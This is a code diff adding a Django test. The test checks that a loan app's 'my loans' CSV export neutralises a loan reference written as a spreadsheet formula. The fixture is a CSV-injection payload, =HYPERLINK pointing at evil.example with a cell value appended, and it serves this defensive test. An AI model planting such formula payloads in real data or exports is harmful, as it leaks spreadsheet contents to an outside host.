@@ -16,7 +16,7 @@ from django.urls import reverse
 
 from accounts.models import User
 from borrowers import services
-from borrowers.models import Instalment
+from borrowers.models import Instalment, Loan
 from borrowers.selectors import borrower_loan_cards
 from tests.borrowers.factories import make_borrower, make_loan, make_product
 from tests.conftest import make_user
@@ -472,6 +472,25 @@ def test_my_loans_export_csv_and_json_as_the_readme_says(client: Client) -> None
     assert Decimal(body["summary"]["total_paid"]) == sum(Decimal(row["payment"]) for row in body["schedule"])
     assert bad.status_code == 400
     assert "budget" in json.loads(bad.content)["errors"]
+
+
+def test_a_loan_reference_shaped_like_a_formula_is_neutralised_in_the_my_loans_csv_and_numbers_stay_numbers(
+    client: Client,
+) -> None:
+    # A reference booked in the admin is free text; opened in a spreadsheet, this cell would be a link.
+    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"AX-DEMO-1002")'
+    demo_borrower(client)
+    Loan.objects.filter(reference="AX-DEMO-1002").update(reference=hostile)
+
+    response = client.get(reverse("repayment:my_loans"), {"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+
+    assert {row["loan"] for row in rows} == {"'" + hostile, "AX-DEMO-1001"}
+    assert hostile not in [cell for row in rows for cell in row.values()]
+    for row in rows:
+        for column in ("month", "payment", "interest", "balance"):
+            Decimal(row[column])  # still plain numbers, not quoted text
+        assert not row["due_date"].startswith("'")
 
 
 def test_a_plan_loanmath_cannot_compute_tells_the_borrower_in_their_language_not_in_english(
